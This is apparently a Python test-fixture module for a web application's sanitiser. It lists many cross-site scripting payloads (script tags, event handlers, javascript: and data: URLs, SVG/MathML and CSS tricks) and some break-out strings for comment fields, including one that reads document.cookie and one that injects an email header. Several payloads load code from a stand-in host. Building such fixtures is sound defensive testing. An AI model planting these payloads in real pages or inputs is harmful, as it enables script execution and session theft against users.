"""XSS payloads for any field that reaches a page (Markdown or plain text).

Shared: the Markdown tests render each one, the UI tests put them in titles and rationales,
other packages may reuse ``XSS_PAYLOADS``. Sources of inspiration: the OWASP XSS filter
evasion cheat sheet and the html5sec.org vectors, written out by hand here.
"""

from __future__ import annotations

_SCRIPT_TAGS = [
    "<script>alert(1)</script>",
    "<SCRIPT>alert(1)</SCRIPT>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=https://evil.example/x.js></script>",
    "<script src=//evil.example/x.js></script>",
    '<script type="text/javascript">alert(1)</script>',
    "<script>/*</script><script>*/alert(1)</script>",
    "<<script>alert(1)//<</script>",
    "<script\n>alert(1)</script\n>",
    "<script/xss src=https://evil.example/x.js></script>",
    "<script>alert(String.fromCharCode(88,83,83))</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    '<noscript><p title="</noscript><script>alert(1)</script>">',
    "<template><script>alert(1)</script></template>",
    "```\n</code></pre><script>alert(1)</script>\n```",
    "`<script>alert(1)</script>`",
]

_EVENT_HANDLERS = [
    "<img src=x onerror=alert(1)>",
    '<img src="x" onerror="alert(1)">',
    "<img src=x OnErRoR=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=x onerror\n=alert(1)>",
    "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>",
    "<body onload=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<div onmouseover=alert(1)>hover</div>",
    "<p onclick=alert(1)>click</p>",
    "<a href=# onclick=alert(1)>x</a>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<keygen autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<audio src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<iframe onload=alert(1)>",
    "<body onpageshow=alert(1)>",
    "<table background=x onerror=alert(1)>",
    "<span onpointerenter=alert(1)>x</span>",
    "<b onanimationstart=alert(1) style=animation-name:x>x</b>",
    "<h1 onbeforeprint=alert(1)>x</h1>",
    '<a title="x" onmouseover="alert(1)">x</a>',
    '<div style="width:100%;height:100%" onmouseenter="alert(1)"></div>',
    "<form><button formaction=javascript:alert(1)>x</button></form>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<object data=x onerror=alert(1)>",
    "<img src=`x` onerror=alert(1)>",
    '<img """><script>alert(1)</script>">',
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    "*emphasis* <em onclick=alert(1)>x</em>",
]

_URL_SCHEMES = [
    "[click](javascript:alert(1))",
    "[click](JavaScript:alert(1))",
    "[click](javascript&#58;alert(1))",
    "[click](javascript&#x3A;alert(1))",
    "[click](java\tscript:alert(1))",
    "[click]( javascript:alert(1))",
    "[click](javascript://%0aalert(1))",
    "[click](vbscript:msgbox(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[click](data:text/html,<script>alert(1)</script>)",
    "[click](livescript:alert(1))",
    "[click][ref]\n\n[ref]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "![img](javascript:alert(1))",
    "![img](https://tracker.example/pixel.gif)",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JAVASCRIPT:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href="jav&#x0A;ascript:alert(1)">x</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114'
    '&#0000105&#0000112&#0000116&#0000058alert(1)">x</a>',
    '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">x</a>',
    '<a href="javascript&colon;alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="\x01javascript:alert(1)">x</a>',
    '<a href="java\x00script:alert(1)">x</a>',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<img src="javascript:alert(1)">',
    '<form action="javascript:alert(1)"><input type=submit></form>',
    '<base href="javascript:alert(1)//">',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    '<a href="feed:javascript:alert(1)">x</a>',
    '<a xlink:href="javascript:alert(1)">x</a>',
]

_SVG_MATH = [
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<svg><set attributeName="href" to="javascript:alert(1)"/></svg>',
    '<svg><use href="data:image/svg+xml,<svg id=x><script>alert(1)</script></svg>#x"/></svg>',
    "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
    '<math><mtext><table><mglyph><style><img src=x onerror="alert(1)">',
    '<math href="javascript:alert(1)">x</math>',
    '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
    "<svg><style>*{background:url(javascript:alert(1))}</style></svg>",
    "<svg><desc><![CDATA[</desc><script>alert(1)</script>]]></svg>",
    '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
]

_STYLE_TRICKS = [
    "<style>body{background:url(javascript:alert(1))}</style>",
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<div style="width:expression(alert(1))">x</div>',
    '<p style="behavior:url(xss.htc)">x</p>',
    '<span style="-moz-binding:url(https://evil.example/xss.xml#xss)">x</span>',
    "<link rel=stylesheet href=https://evil.example/x.css>",
    '<style>@import "https://evil.example/x.css";</style>',
    '<div style="position:fixed;top:0;left:0;width:100%;height:100%">overlay</div>',
]

_FRAMES_AND_META = [
    '<iframe src="https://evil.example"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<frameset><frame src="javascript:alert(1)"></frameset>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<meta charset="x-imap4-modified-utf7">',
    '<object type="text/x-scriptlet" data="https://evil.example/x.sct"></object>',
    '<embed src="https://evil.example/x.swf">',
    '<applet code="x.class"></applet>',
    '<portal src="https://evil.example"></portal>',
]

_ENCODED_AND_BROKEN = [
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "<img src=x onerror=alert(1)//",
    "<img src=x onerror=alert(1) ",
    "<a href='javascript:alert(1)'",
    "<script>alert(1)",
    "<<img src=x onerror=alert(1)>>",
    "<img src=x onerror=alert(1)<!--",
    "<!--<img src=x onerror=alert(1)>-->",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<x:script xmlns:x=http://www.w3.org/1999/xhtml>alert(1)</x:script>",
    "<xmp><script>alert(1)</script></xmp>",
    "<plaintext><script>alert(1)</script>",
    '<div id="x" data-x="1"></div><input name="csrfmiddlewaretoken" value="clobbered">',
    '<form id="x"><input name="action"></form>',
    "<img src=x onerror=\\u0061lert(1)>",
    '<a href="https://ok.example" target="_blank">tabnabbing</a>',
]

XSS_PAYLOADS: list[str] = [
    *_SCRIPT_TAGS,
    *_EVENT_HANDLERS,
    *_URL_SCHEMES,
    *_SVG_MATH,
    *_STYLE_TRICKS,
    *_FRAMES_AND_META,
    *_ENCODED_AND_BROKEN,
]

# Things that must never appear in sanitised output, as tags (parsed, not substring-checked).
FORBIDDEN_TAGS = frozenset(
    {
        "script", "style", "iframe", "frame", "frameset", "object", "embed", "applet",
        "meta", "link", "base", "form", "input", "button", "select", "textarea", "svg",
        "math", "img", "video", "audio", "source", "template", "portal", "isindex",
        "keygen", "marquee", "body", "html", "head", "xmp", "plaintext", "noscript",
    }
)  # fmt: skip
SAFE_URL_SCHEMES = ("http:", "https:", "mailto:")
URL_ATTRIBUTES = frozenset({"href", "src", "action", "formaction", "data", "xlink:href",
                            "background", "poster", "srcdoc", "cite"})  # fmt: skip

# Comments sit next to a reply <textarea> and inside data-* attributes on the change page,
# and their excerpts travel into notifications and e-mails: break-outs aimed at those spots.
COMMENT_PAYLOADS: list[str] = [
    "</textarea><script>alert('reply')</script>",
    '" data-thread="1"><script>alert(1)</script>',
    "[line](javascript:alert(document.cookie))",
    "<details open ontoggle=alert(1)>",
    "<a href='jav&#x09;ascript:alert(1)'>x</a>",
    "Subject: injected\r\nBcc: victim@example.com",
    *XSS_PAYLOADS,
]
